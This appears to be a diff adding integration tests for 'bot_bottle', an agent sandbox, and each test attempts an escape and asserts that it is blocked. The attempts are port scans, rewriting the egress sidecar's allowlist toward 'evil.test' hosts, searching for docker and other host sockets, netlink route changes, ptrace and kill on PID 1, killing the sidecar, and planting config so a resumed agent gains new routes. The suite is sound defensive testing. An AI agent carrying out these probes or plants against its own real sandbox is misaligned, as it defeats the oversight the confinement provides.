@@ -1,0 +1,322 @@
+"""A9-A13: the sidecar's own surface, sockets of the host, capabilities, and policy over a bottle's life."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import sys
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.attacks import inside
+from tests.attacks.conftest import FRONTMATTER, TOKEN, TOKEN_REF
+from tests.support.outside import new_marker
+
+if TYPE_CHECKING:
+    from tests.support.lab import Lab, RunningBottle
+    from tests.support.outside import World
+
+pytestmark = [pytest.mark.integration, pytest.mark.attack]
+
+_OPEN_PORTS = """
+def scan(host):
+    found = []
+    for port in range(1, 65536):
+        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as sock:
+            # A free port in the ephemeral range can connect to itself (RFC 9293, simultaneous open).
+            if sock.connect_ex((host, port)) == 0 and sock.getsockname() != sock.getpeername():
+                found.append(port)
+    return found
+tell(v4=scan("127.0.0.1"), v6=scan("::1"))
+"""
+
+
+def test_a9_only_the_declared_ports_listen(bottle: RunningBottle) -> None:
+    found = inside.run(bottle, _OPEN_PORTS)
+    assert found["v4"] == [53, 80, 443, 9099]
+    assert found["v6"] in ([53, 80, 443, 9099], [])
+
+
+def test_a9_allowlist_tells_names_and_no_value(bottle: RunningBottle, token: str) -> None:
+    answer = bottle.sh("curl -sS -m 5 http://_egress.local/allowlist")
+    text = json.dumps(answer.json())
+    assert "allowed.test" in text
+    assert TOKEN_REF in text
+    assert token not in text
+
+
+@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
+@pytest.mark.parametrize("path", ["/allowlist", "/routes", "/reload", "/shutdown", "/config", "/"])
+def test_a9_nothing_about_the_sidecar_can_be_changed(
+    bottle: RunningBottle, world: World, method: str, path: str
+) -> None:
+    marker = new_marker("a9")
+    body = json.dumps({"routes": [{"host": f"{marker}.evil.test"}]})
+    script = (
+        f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' -X {method} -d '{body}' http://_egress.local{path}"
+    )
+    assert bottle.sh(script).out[0] == "4"
+    bottle.sh(f"curl -sS -m 5 https://{marker}.evil.test/")
+    assert world.reached(marker) == []
+    assert [line["reason"] for line in bottle.denied(f"{marker}.evil.test")] == ["host_not_allowed"]
+
+
+@pytest.mark.parametrize(
+    "host", ["mitm.it", "localhost", "127.0.0.1", "127.0.0.1:9099", "[::1]", "_egress.local.evil.test"]
+)
+def test_a9_the_proxy_cannot_be_turned_on_itself_or_the_host(
+    bottle: RunningBottle, world: World, host: str
+) -> None:
+    marker = new_marker("a9")
+    answer = bottle.sh(f"curl -sS -g -m 5 --noproxy '' -x http://127.0.0.1:9099 http://{host}/{marker}")
+    assert answer.json()["error"] == "bot_bottle_denied"
+    assert world.reached(marker) == []
+    assert bottle.denied(marker)
+
+
+def test_a10_no_unix_socket_of_the_host(bottle: RunningBottle) -> None:
+    named = bottle.sh("find / -xdev -type s 2>/dev/null; find /tmp /run /home /var /dev -type s 2>/dev/null")
+    assert named.out == ""
+    listed = bottle.sh("tail -n +2 /proc/net/unix").out.splitlines()
+    assert [line.split()[7] for line in listed if len(line.split()) > 7] == []
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd", "/run/user", "/run/dbus", "/run/systemd",
+     "/run/podman", "/tmp/.X11-unix", "/run/snapd.socket", "/var/run/nscd"],
+)  # fmt: skip
+def test_a10_sockets_with_power_are_not_there(bottle: RunningBottle, path: str) -> None:
+    assert bottle.sh(f"test ! -e {path}").returncode == 0
+
+
+def test_a10_no_variable_points_at_the_host(lab: Lab, fresh: list[RunningBottle]) -> None:
+    host = {
+        "SSH_AUTH_SOCK": "/tmp/agent.sock",
+        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/bus",
+        "DOCKER_HOST": "unix:///run/docker.sock",
+        "GPG_AGENT_INFO": "/x",
+        "XAUTHORITY": "/x",
+        "AWS_SECRET_ACCESS_KEY": "abcdef",
+        "LD_PRELOAD_CANARY": "1",
+    }
+    fresh.append(lab.launch("attack", env={TOKEN_REF: TOKEN, **host}))
+    names = {line.partition("=")[0] for line in fresh[0].sh("env").out.splitlines()}
+    assert names.isdisjoint(host)
+    assert names - {"PWD", "OLDPWD", "SHLVL", "_"} <= set(fresh[0].guest_env)
+
+
+def test_a10_no_descriptor_is_inherited(lab: Lab) -> None:
+    secret = lab.user_home / "operator-secret"
+    secret.write_text("descriptor-secret")
+    lab.declare(
+        "fds",
+        "agent_provider:\n  template: command\n  argv: [/bin/sh, '{prompt_file}']\n",
+        prompt="ls -l /proc/self/fd; cat <&7",
+    )
+    shell = (
+        f"exec 7<{secret}; [ -r /proc/self/fd/7 ] && echo open-outside; exec {sys.executable} -m bot_bottle"
+    )
+    script = f"{shell} start fds --yes --headless --prompt ''"
+    result = lab.world.run(["bash", "-c", script], account=lab.account, env=lab.env, cwd=lab.project)
+    assert "open-outside" in result.out
+    assert "descriptor-secret" not in result.out + result.err
+    assert str(secret) not in result.out
+
+
+@pytest.mark.parametrize(
+    ("family", "kind"),
+    [("AF_VSOCK", 1), ("AF_PACKET", 3), ("AF_ALG", 5), ("AF_KEY", 3), ("AF_BLUETOOTH", 3), ("AF_RDS", 5),
+     ("AF_CAN", 3), ("AF_XDP", 3)],
+)  # fmt: skip
+def test_a11_other_socket_families_are_refused(bottle: RunningBottle, family: str, kind: int) -> None:
+    number = {"AF_RDS": 21, "AF_XDP": 44, "AF_KEY": 15, "AF_VSOCK": 40, "AF_ALG": 38, "AF_BLUETOOTH": 31}.get(
+        family
+    )
+    code = f"""
+import socket, errno
+try:
+    socket.socket({number or f"socket.{family}"}, {kind}, 0)
+    print("open")
+except OSError as error:
+    print(errno.errorcode[error.errno])
+"""
+    assert bottle.py(code).out.strip() in {"EPERM", "EACCES", "EAFNOSUPPORT"}
+
+
+def test_a11_inet_and_unix_sockets_still_work(bottle: RunningBottle) -> None:
+    code = (
+        "import socket; [socket.socket(f, 1).close() for f in (1, 2, 10)]; socket.socketpair(); print('ok')"
+    )
+    assert bottle.py(code).out.strip() == "ok"
+
+
+def test_a12_no_capability_and_no_new_privileges(bottle: RunningBottle) -> None:
+    fields = dict(
+        line.split(":", 1) for line in bottle.sh("cat /proc/self/status").out.splitlines() if ":" in line
+    )
+    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
+        assert int(fields[name], 16) == 0, name
+    assert fields["NoNewPrivs"].strip() == "1"
+    assert fields["Seccomp"].strip() == "2"
+    assert "0" not in fields["Uid"].split()
+
+
+_NETLINK = """
+def change(kind, payload):
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
+        sock.bind((0, 0))
+        sock.send(struct.pack("=IHHII", 16 + len(payload), kind, 5, 1, 0) + payload)
+        return -struct.unpack_from("=i", sock.recv(4096), 16)[0]
+lo = socket.if_nametoindex("lo")
+address = struct.pack("=BBBBI", 2, 24, 0, 0, lo) + struct.pack("=HH4s", 8, 2, bytes([10, 9, 8, 7]))
+link = struct.pack("=BxHiII", 0, 0, lo, 0, 1)
+route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHi", 8, 4, lo)
+tell(address=change(20, address), link=change(16, link), route=change(24, route))
+"""
+
+
+def test_a12_the_network_cannot_be_reconfigured(bottle: RunningBottle) -> None:
+    assert inside.run(bottle, _NETLINK) == {"address": 1, "link": 1, "route": 1}  # EPERM
+
+
+def test_a12_the_sidecars_ports_cannot_be_taken(bottle: RunningBottle) -> None:
+    code = """
+result = {}
+for port in (53, 80, 443, 9099):
+    for address in ("127.0.0.1", "0.0.0.0"):
+        with socket.socket() as sock:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+            try:
+                sock.bind((address, port))
+                sock.listen()
+                result[f"{address}:{port}"] = "listening"
+            except OSError as error:
+                result[f"{address}:{port}"] = errno.errorcode[error.errno]
+tell(**result)
+"""
+    assert set(inside.run(bottle, code).values()) <= {"EADDRINUSE", "EACCES", "EPERM"}
+
+
+def test_a12_pid_1_and_the_helper_cannot_be_traced_or_ended(bottle: RunningBottle, world: World) -> None:
+    code = """
+import platform
+ptrace = {"x86_64": 101, "aarch64": 117}[platform.machine()]
+result = {"attach": syscall(ptrace, 16, 1, 0, 0), "seize": syscall(ptrace, 0x4206, 1, 0, 0)}
+readers = dict.fromkeys(("environ", "mem", "maps"), lambda path: open(path, "rb").read(1))
+for name, reader in {**readers, "root": os.readlink, "cwd": os.readlink, "fd": os.listdir}.items():
+    try:
+        reader("/proc/1/" + name)
+        result[name] = "read"
+    except OSError as error:
+        result[name] = errno.errorcode[error.errno]
+for number in (9, 15, 19):
+    try:
+        os.kill(1, number)
+    except OSError:
+        pass
+tell(**result)
+"""
+    found = inside.run(bottle, code)
+    assert set(found.values()) <= {"EPERM", "EACCES"}, found
+    marker = new_marker("a12")
+    bottle.sh(f"curl -sS -m 5 https://allowed.test/{marker}")
+    assert world.reached(marker), "the bottle did not outlive signals to its PID 1"
+
+
+def _sidecar_of(launcher: int) -> int:
+    """Find the sidecar among a launcher's descendants."""
+    for pid in _descendants(launcher):
+        if b"bot_bottle.sidecar" in Path("/proc", str(pid), "cmdline").read_bytes():
+            return pid
+    raise AssertionError("the launcher has no sidecar")
+
+
+def _descendants(pid: int) -> list[int]:
+    found = []
+    for task in Path("/proc", str(pid), "task").iterdir():
+        for child in (task / "children").read_text().split():
+            found += [int(child), *_descendants(int(child))]
+    return found
+
+
+def test_a13_a_dead_sidecar_means_no_way_out(
+    lab: Lab, world: World, fresh: list[RunningBottle], token: str
+) -> None:
+    running = lab.launch("attack", env={TOKEN_REF: token})
+    fresh.append(running)
+    before, after = new_marker("a13"), new_marker("a13")
+    running.sh(f"curl -sS -m 5 https://allowed.test/{before}")
+    assert world.reached(before)
+    os.kill(_sidecar_of(running.launcher_pid), signal.SIGKILL)
+    for option in ("", "--noproxy '*'"):
+        result = running.sh(f"curl -sS -m 5 {option} https://allowed.test/{after}")
+        assert result.returncode != 0
+    assert world.reached(after) == []
+
+
+def test_a13_what_the_agent_wrote_changes_nothing_after_resume(lab: Lab, world: World, token: str) -> None:
+    marker = new_marker("a13")
+    first = lab.launch("attack", env={TOKEN_REF: token})
+    planted = FRONTMATTER + f"    - host: {marker}.evil.test\n"
+    first.sh(
+        "for where in ~/.bot-bottle ~/workspace/.bot-bottle; do mkdir -p $where/bottles $where/agents;"
+        " cat > /tmp/planted; cp /tmp/planted $where/bottles/attack.md; done; touch ~/here;"
+        " printf '[pins]\\n' > ~/.bot-bottle/config.toml",
+        stdin=f"---\n{planted}---\n".encode(),
+    )
+    first.close(exit_code=3)
+    second = lab.launch("attack", env={TOKEN_REF: token}, identity=first.identity)
+    try:
+        assert second.sh("test -e ~/here").returncode == 0
+        second.sh(f"curl -sS -m 5 https://{marker}.evil.test/")
+        assert world.reached(marker) == []
+        assert [line["reason"] for line in second.denied(f"{marker}.evil.test")] == ["host_not_allowed"]
+    finally:
+        second.close()
+
+
+def test_a13_a_route_the_operator_removed_is_gone_after_resume(lab: Lab, world: World, token: str) -> None:
+    lab.declare("shrinking", FRONTMATTER)
+    first = lab.launch("shrinking", env={TOKEN_REF: token})
+    before, after = new_marker("a13"), new_marker("a13")
+    first.sh(f"curl -sS -m 5 https://allowed.test/{before}")
+    first.close(exit_code=1)
+    lab.declare("shrinking", FRONTMATTER.replace("    - host: allowed.test\n", ""))
+    second = lab.launch("shrinking", env={TOKEN_REF: token}, identity=first.identity)
+    try:
+        second.sh(f"curl -sS -m 5 https://allowed.test/{after}")
+    finally:
+        second.close()
+    assert world.reached(before)
+    assert world.reached(after) == []
+
+
+@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM, signal.SIGHUP])
+def test_a13_nothing_lives_on_after_the_launcher(lab: Lab, token: str, number: int) -> None:
+    running = lab.launch("attack", env={TOKEN_REF: token})
+    family = _descendants(running.launcher_pid)
+    assert len(family) >= 3  # sidecar, bwrap, init
+    running.kill(number)
+    assert running.wait() is not None
+    running.abandon()
+    for pid in family:
+        _wait_until_gone(pid)
+
+
+def _wait_until_gone(pid: int) -> None:
+    """Wait for a process's end without polling (pidfd_open(2)); a test's own timeout bounds it."""
+    import select  # noqa: PLC0415
+
+    try:
+        descriptor = os.pidfd_open(pid)
+    except ProcessLookupError:
+        return
+    try:
+        assert select.select([descriptor], [], [], 30)[0], f"process {pid} lives on"
+    finally:
+        os.close(descriptor)
